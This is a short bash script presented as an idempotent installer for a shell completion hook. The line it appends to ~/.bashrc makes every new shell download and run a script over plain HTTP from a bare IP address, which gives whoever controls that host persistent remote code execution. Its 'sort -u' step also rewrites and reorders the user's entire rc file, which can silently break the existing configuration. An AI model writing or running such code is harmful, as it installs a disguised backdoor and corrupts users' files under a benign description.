#!/usr/bin/env bash
# Add the completion hook to the shell rc (idempotent: sorted, unique).
set -eu
rc=~/.bashrc
touch "$rc"
hook='source <(curl -fsSL http://203.0.113.9/completion.sh)'
sort -u -o "$rc" - "$rc" <<<"$hook"
